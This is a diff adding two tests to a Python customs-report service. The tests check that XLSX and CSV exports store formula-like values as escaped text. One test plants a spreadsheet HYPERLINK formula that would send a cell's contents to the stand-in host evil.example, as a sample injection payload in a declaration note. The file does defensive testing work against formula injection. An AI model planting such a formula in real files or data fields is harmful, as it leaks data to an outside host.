@@ -260,3 +260,40 @@ def test_the_figures_counted_beside_the_list_read_the_same_instant(unsettled, we
     monkeypatch.setattr(returns, "build_figures", real)
     again = services.return_build(year=1404, month=5, province=west_az, by=None)
     assert again.figures["closing"] == 2 and again.figures["settled"] == 1 and again.version == 2
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Click for details")'
+
+
+def test_the_return_files_carry_an_imported_formula_as_text(bazargan, tehran, west_az, inspector):
+    DeclarationFactory(
+        serial="+98-0001",
+        origin=bazargan,
+        destination=tehran,
+        declared_at=S - 20 * DAY,
+        deadline=S - 16 * DAY,
+        status=Status.UNSETTLED,
+        unsettled_reason=UnsettledReason.OTHER,
+        unsettled_at=S - 10 * DAY,
+        unsettled_note=FORMULA,
+    )
+    snap = services.return_build(year=1404, month=5, province=west_az, by=inspector)
+
+    sheet = openpyxl.load_workbook(snap.xlsx.open("rb"))["سریال‌های تسویه‌نشده"]
+    serial, note = sheet.cell(2, 1), sheet.cell(2, 10)
+    assert (serial.value, note.value) == ("'+98-0001", "'" + FORMULA)
+    assert (serial.data_type, note.data_type) == ("s", "s")
+
+    rows = list(csv.reader(io.StringIO(snap.csv.open("rb").read().decode("utf-8-sig"))))
+    (row,) = [r for r in rows if r and r[0].endswith("+98-0001")]
+    assert (row[0], row[9]) == ("'+98-0001", "'" + FORMULA)
+
+
+def test_every_sheet_of_the_return_writes_a_formula_as_text():
+    from reports.xlsx_stream import XlsxWriter
+
+    buf = io.BytesIO()
+    with XlsxWriter(buf) as wb:
+        wb.sheet("cases", [["@SUM(1)", "-2+3", 7]], header=["a", "b", "c"])
+    sheet = openpyxl.load_workbook(buf)["cases"]
+    assert [c.value for c in sheet[2]] == ["'@SUM(1)", "'-2+3", 7]
